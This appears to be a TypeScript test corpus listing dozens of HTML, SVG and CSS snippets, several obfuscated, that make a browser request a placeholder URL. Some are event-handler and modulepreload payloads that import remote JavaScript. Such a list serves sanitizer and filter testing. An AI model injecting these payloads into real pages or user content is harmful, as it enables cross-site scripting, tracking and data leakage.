import type { Ways } from "../ways";

/** SVG. */
export const GRAPHICS: Ways = {
  "SVG image": '<svg><image href="URL" width="9" height="9"/></svg>',
  "SVG image by xlink": '<svg><image xlink:href="URL" width="9" height="9"/></svg>',
  "SVG filter image":
    '<svg><filter id="f"><feImage href="URL"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  "SVG style": "<svg class=C><style>.C{background:url(URL)}</style></svg>",
  "SVG style with entities": "<svg class=C><style>.C{background:u&#114;l(URL)}</style></svg>",
  "SVG style in CDATA": "<svg class=C><style><![CDATA[.C{background:url(URL)}]]></style></svg>",
  "SVG style attribute": '<svg style="background:url(URL)"></svg>',
  "SVG mask": '<svg><rect mask="url(URL#m)" width="9" height="9"/></svg>',
  "SVG mask in a style": '<svg><rect style="mask:url(URL#m)" width="9" height="9"/></svg>',
  "SVG cursor": '<svg><rect cursor="url(URL), auto" width="9" height="9"/></svg>',
  "SVG set": '<svg><image width="9" height="9"><set attributeName="href" to="URL"/></image></svg>',
  "SVG set by xlink":
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9"><set attributeName="xlink:href" to="URL"/></image></svg>',
  "SVG animation of values":
    '<svg><image width="9" height="9"><animate attributeName="href" values="/own.gif;URL" dur="0.01s" fill="freeze"/></image></svg>',
  "SVG animation from":
    '<svg><image width="9" height="9"><animate attributeName="href" from="URL" to="/own.gif" dur="9s"/></image></svg>',
  "SVG animation of a mask":
    '<svg><rect width="9" height="9"><set attributeName="mask" to="url(URL#m)"/></rect></svg>',
  "SVG fill": '<svg><rect fill="url(URL#p)" width="9" height="9"/></svg>',
  "SVG stroke": '<svg><rect stroke="url(URL#p)" width="9" height="9"/></svg>',
  "SVG filter": '<svg><rect filter="url(URL#f)" width="9" height="9"/></svg>',
  "SVG clip": '<svg><rect clip-path="url(URL#c)" width="9" height="9"/></svg>',
  "SVG marker": '<svg><path marker-end="url(URL#m)" d="M0 0L9 9"/></svg>',
  "SVG mask by image-set": `<svg><rect mask="image-set('URL' 1x)" width="9" height="9"/></svg>`,
  "SVG use": '<svg><use href="URL#x"/></svg>',
  "SVG pattern":
    '<svg><pattern id=P href="URL#x"/><rect fill="url(#P)" width="9" height="9"/></svg>',
  "SVG animation of a fill":
    '<svg><rect width="9" height="9"><animate attributeName="fill" values="red;url(URL#p)" dur="0.01s" fill="freeze"/></rect></svg>',
  "SVG animation by":
    '<svg><image width="9" height="9"><animate attributeName="href" by="URL" dur="0.01s" fill="freeze"/></image></svg>',
  "SVG filter of data": `<p style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><filter id=%22f%22><feImage href=%22URL%22/></filter></svg>#f")'>x</p>`,
  "SVG frame": '<svg><iframe src="URL"/></svg>',
  "SVG handler": "<svg onload=\"import('URL')\"></svg>",
  "handler that imports": `<img src="data:," onerror='import("URL")'>`,
  "handler with entities that imports": `<img src="data:," ONERROR='imp&#111;rt("URL")'>`,
  "handler of a frame that imports": `<iframe onload="import('URL')"></iframe>`,
  "preload of a module of data": `<link rel="modulepreload" href="data:text/javascript,import'URL'">`,
  search: '<link rel="search" type="application/opensearchdescription+xml" href="URL">',
  manifest: '<link rel="manifest" href="URL">',
  icon: '<link rel="icon" href="URL">',
  "attribution of an image": '<img src="/own.gif" attributionsrc="URL">',
  "attribution of a script": '<script src="/own.js" attributionsrc="URL"></script>',
  "compression dictionary": '<link rel="compression-dictionary" href="URL">',
  "style sheet in SVG": '<svg><link rel="stylesheet" href="URL"/></svg>',
  "frame of data in UTF-16":
    '<iframe src="data:text/html;charset=utf-16le;base64,UTF16(<img src=URL>)"></iframe>',
  "style in a variable as text": `<p style="--u:'URL'"><i style="background:image-set(var(--u) 1x)">x</i></p>`,
  "style registered text": `<i class=C></i><style>@property --s{syntax:"<string>";inherits:false;initial-value:"URL"}.C{background:image-set(var(--s) 1x)}</style>`,
  "style function": `<i class=C></i><style>@function --g(){result:"URL"}.C{background:image-set(--g() 1x)}</style>`,
  "style condition": `<i class=C></i><style>.C{background:if(media(all):url(URL))}</style>`,
  "style from an attribute": `<i class=C data-u="URL"></i><style>.C{background:image-set(attr(data-u) 1x)}</style>`,
  "style from an attribute as CSS": `<i class=C data-u="url(URL)"></i><style>.C{background:attr(data-u type(*))}</style>`,
  "style from an attribute as an image": `<i class=C data-u="url(URL)"></i><style>.C{background:attr(data-u type(<image> | none))}</style>`,
  "style from an attribute in a variable": `<i class=C style="--x:attr(title type(*))" title="url(URL)"></i><style>.C{background:var(--x)}</style>`,
  "style of a source": `<i class=C></i><style>.C{background:src("URL")}</style>`,
  "style cursor": "<i class=C>x</i><style>.C{cursor:url(URL),auto}</style>",
  "style background continued with CRLF":
    "<i class=C></i><style>.C{background:url('https:\\\r\n//HOST/x')}</style>",
  "style filter": "<i class=C>x</i><style>.C{filter:url(URL#f)}</style>",
  "style clip": "<i class=C>x</i><style>.C{clip-path:url(URL#f)}</style>",
  "style offset": "<i class=C>x</i><style>.C{offset-path:url(URL#f)}</style>",
  "SVG foreign object": '<svg><foreignObject><img src="URL"></foreignObject></svg>',
};
